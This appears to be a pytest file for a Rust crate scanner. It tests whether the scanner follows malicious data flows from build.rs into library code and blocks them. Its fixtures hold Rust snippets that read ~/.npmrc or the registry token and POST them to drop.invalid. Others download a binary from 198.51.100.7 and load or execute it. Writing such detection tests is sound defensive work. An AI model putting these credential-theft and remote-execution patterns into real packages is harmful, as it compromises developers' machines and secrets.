"""From the build to the program: variables, files in OUT_DIR, code made of texts; second stages
by cells and fields.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Report, Span, Verdict

ReportOf = Callable[[Mapping[str, str]], Report]
MANIFEST = """
[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
ureq = "2"
libloading = "0.8"
reqwest = { version = "0.12", features = ["blocking"] }
[build-dependencies]
ureq = "2"
reqwest = { version = "0.12", features = ["blocking"] }
"""
CODE = """pub fn go() { ureq::post("https://drop.invalid/x").send_string(&std::fs::read_to_string(
    std::env::var("HOME").unwrap() + "/.npmrc").unwrap()).ok(); }"""
WAYS: dict[str, dict[str, str]] = {
    "rustc-env env!": {
        "build.rs": """
            fn main() { println!("cargo:rustc-env=K={}", std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap()); }""",
        "src/lib.rs": """
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(env!("K")).ok(); }""",
    },
    "rustc-env :: option_env": {
        "build.rs": """
            fn main() { let k = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap(); println!("cargo::rustc-env=K={k}"); }""",
        "src/lib.rs": """
            pub fn go() { if let Some(k) = option_env!("K") {
                ureq::post("https://drop.invalid/x").send_string(k).ok(); } }""",
    },
    "rustc-env const": {
        "build.rs": r"""
            fn main() { let k = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap(); print!("cargo::rustc-env=K={k}\n"); }""",
        "src/lib.rs": """
            const K: &str = env!("K");
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(K).ok(); }""",
    },
    "rustc-env write stdout": {
        "build.rs": """
            use std::io::Write;
            fn main() { let k = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap(); writeln!(std::io::stdout(), "cargo:rustc-env=K={}", k).unwrap(); }""",
        "src/lib.rs": """
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(env!("K")).ok(); }""",
    },
    "out_dir include_str": {
        "build.rs": """
            fn main() { let o = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
                std::fs::write(o.join("k.txt"), std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap()).unwrap(); }""",
        "src/lib.rs": """
            const K: &str = include_str!(concat!(env!("OUT_DIR"), "/k.txt"));
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(K).ok(); }""",
    },
    "out_dir include_bytes copy": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                let h = std::env::var("HOME").unwrap();
                std::fs::copy(format!("{h}/.npmrc"), format!("{o}/k.bin")).unwrap(); }""",
        "src/lib.rs": """
            static K: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/k.bin"));
            pub fn go() { ureq::post("https://drop.invalid/x").send_bytes(K).ok(); }""",
    },
    "out_dir generated rs": {
        "build.rs": """
            use std::io::Write;
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                let mut f = std::fs::File::create(std::path::Path::new(&o).join("k.rs")).unwrap();
                writeln!(f, "pub const K: &str = {:?};", std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap()).unwrap(); }""",
        "src/lib.rs": """
            mod k { include!(concat!(env!("OUT_DIR"), "/k.rs")); }
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(k::K).ok(); }""",
    },
    "env token rustc-env": {
        "build.rs": """
            fn main() { println!("cargo:rustc-env=K={}", std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default()); }""",
        "src/lib.rs": """
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(env!("K")).ok(); }""",
    },
    "fetch lib env load": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap(); let p = format!("{o}/libx.so");
                std::fs::write(&p, reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); println!("cargo:rustc-env=LIBX={p}"); }""",
        "src/lib.rs": """
            pub fn go() { unsafe { libloading::Library::new(env!("LIBX")).ok(); } }""",
    },
    "fetch lib OUT_DIR load": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::write(format!("{o}/libx.so"), reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); }""",
        "src/lib.rs": """
            const P: &str = concat!(env!("OUT_DIR"), "/libx.so");
            pub fn go() { unsafe { libloading::Library::new(P).ok(); } }""",
    },
    "fetch prog env spawn": {
        "build.rs": """
            fn main() { let p = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap()).join("x"); std::fs::write(&p, reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); println!("cargo:rustc-env=X={}", p.display()); }""",
        "src/lib.rs": """
            pub fn go() { std::process::Command::new(env!("X")).spawn().ok(); }""",
    },
    "fetch bytes include run": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::write(format!("{o}/x"), reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); }""",
        "src/lib.rs": """
            static X: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/x"));
            pub fn go() { std::fs::write("/tmp/.x", X).unwrap();
                std::process::Command::new("/tmp/.x").spawn().ok(); }""",
    },
    "text copy include": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::copy("data/a.txt", format!("{o}/a.rs")).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
        "data/a.txt": CODE,
    },
    "text read write include": {
        "build.rs": r"""
            use std::{env, fs, path::PathBuf};
            fn main() { let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
                let mut text = String::from("mod a {\n");
                text.push_str(&fs::read_to_string("data/a.txt").unwrap()); text.push_str("}\n");
                fs::write(out.join("a.rs"), text).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
        "data/a.txt": CODE,
    },
    "text include_str write": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::write(std::path::Path::new(&o).join("a.rs"), include_str!("data/a.tmpl")).unwrap(); }""",
        "src/lib.rs": """
            mod a { include!(concat!(env!("OUT_DIR"), "/a.rs")); }""",
        "data/a.tmpl": CODE,
    },
    "text replace write": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                let t = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/data/a.in")).unwrap().replace("@N@", "1"); std::fs::write(o + "/a.rs", t).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
        "data/a.in": """
            pub const N: u8 = @N@;
            pub fn go() { ureq::post("https://drop.invalid/x").send_string(&std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap()).ok(); }""",
    },
    "text literal write": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::write(o + "/a.rs", r##"pub fn go() {
                let k = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap(); ureq::post("https://drop.invalid/x").send_string(&k).ok(); }"##).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
    },
    "text const write": {
        "build.rs": """
            const T: &str = r##"pub fn go() {
                let k = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.npmrc").unwrap(); ureq::post("https://drop.invalid/x").send_string(&k).ok(); }"##;
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                std::fs::write(o + "/a.rs", T).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
    },
    "text format write": {
        "build.rs": r"""
            use std::io::Write;
            fn main() { let o = std::env::var("OUT_DIR").unwrap();
                let mut f = std::fs::File::create(o + "/a.rs").unwrap();
                writeln!(f, "pub fn go() {{
                let k = {}::read_to_string(std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap(); ureq::post(\"https://drop.invalid/x\").send_string(&k).ok(); }}", "std::fs").unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
    },
    "text read_dir": {
        "build.rs": """
            fn main() { let o = std::env::var("OUT_DIR").unwrap(); let mut all = String::new();
                for e in std::fs::read_dir("parts").unwrap().flatten() {
                all += &std::fs::read_to_string(e.path()).unwrap();
                } std::fs::write(o + "/a.rs", all).unwrap(); }""",
        "src/lib.rs": """
            include!(concat!(env!("OUT_DIR"), "/a.rs"));""",
        "parts/a.txt": CODE,
        "parts/b.txt": "pub fn b() {}",
    },
    "oncelock path exec": {
        "src/lib.rs": """
            use std::sync::OnceLock;
            use std::path::PathBuf;
            static T: OnceLock<Option<PathBuf>> = OnceLock::new();
            fn prepare() -> Option<PathBuf> { let p = std::env::temp_dir().join("g");
                std::fs::write(&p, reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).ok()?; Some(p) }
            pub fn go() { if let Some(t) = T.get_or_init(prepare) {
                std::process::Command::new(t).output().ok(); } }""",
    },
    "lazylock path exec": {
        "src/lib.rs": """
            use std::sync::LazyLock;
            use std::path::PathBuf;
            static T: LazyLock<PathBuf> = LazyLock::new(|| {
                let p = std::env::temp_dir().join("g");
                std::fs::write(&p, reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); p });
            pub fn go() { std::process::Command::new(&*T).output().ok(); }""",
    },
    "fields exec": {
        "src/lib.rs": """
            pub struct U { at: std::path::PathBuf }
            impl U { pub fn new() -> U { U { at: std::env::temp_dir().join("u") } }
            pub fn fetch(&self) {
                std::fs::write(&self.at, reqwest::blocking::get("http://198.51.100.7/p").unwrap().bytes().unwrap()).unwrap(); }
            pub fn start(&self) { std::process::Command::new(&self.at).spawn().ok(); } }""",
    },
}


@pytest.mark.parametrize("files", WAYS.values(), ids=WAYS)
def test_it_is_followed_to_the_end(report_of: ReportOf, files: dict[str, str]) -> None:
    assert report_of({"Cargo.toml": MANIFEST, **files}).verdict is Verdict.BLOCK


def test_code_of_a_packaged_text_is_shown_in_its_file(report_of: ReportOf) -> None:
    report = report_of({"Cargo.toml": MANIFEST, **WAYS["text copy include"]})
    files = {
        each.where.file
        for one in report.findings
        for each in one.evidence
        if isinstance(each.where, Span)
    }
    assert files == {"data/a.txt"}


def test_a_table_that_a_build_script_reads_is_no_code(report_of: ReportOf) -> None:
    files = {
        "build.rs": """fn main() {
            let text = std::fs::read_to_string("data/words.txt").unwrap();
            let out = std::env::var("OUT_DIR").unwrap();
            std::fs::write(out + "/words.rs", format!("pub const N: usize = {};", text.len())).unwrap();
        }""",
        "src/lib.rs": 'include!(concat!(env!("OUT_DIR"), "/words.rs"));',
        "data/words.txt": "one\ntwo (2)\nfn three\n",
    }
    report = report_of({"Cargo.toml": MANIFEST, **files})
    assert report.verdict is Verdict.CLEAR
    assert "data/words.txt" not in {one.path for one in report.files if one.phases}
